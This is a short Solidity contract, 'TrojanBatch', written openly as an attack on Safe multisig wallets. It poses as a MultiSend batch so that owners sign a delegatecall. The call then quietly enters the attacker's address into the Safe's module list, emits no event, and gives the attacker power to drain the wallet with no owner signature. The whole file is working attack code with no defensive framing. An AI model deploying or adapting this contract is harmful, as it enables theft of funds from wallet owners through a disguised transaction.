// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Looks like MultiSend when a Safe's owners sign; delegate-called by the Safe it enters an account into the Safe's
/// list of modules, where no event tells of it. A module moves everything without any owner's signature.
contract TrojanBatch {
    /// The head of the list (Safe 1.5.0, ModuleManager).
    address private constant SENTINEL = address(1);

    /// The Safe keeps its own code's address and its modules in these two slots.
    address private singleton;
    mapping(address => address) private modules;

    /// In the code, so that it is still there when the storage is the Safe's.
    address private immutable module = msg.sender;

    function multiSend(bytes calldata) external payable {
        modules[module] = modules[SENTINEL];
        modules[SENTINEL] = module;
    }
}
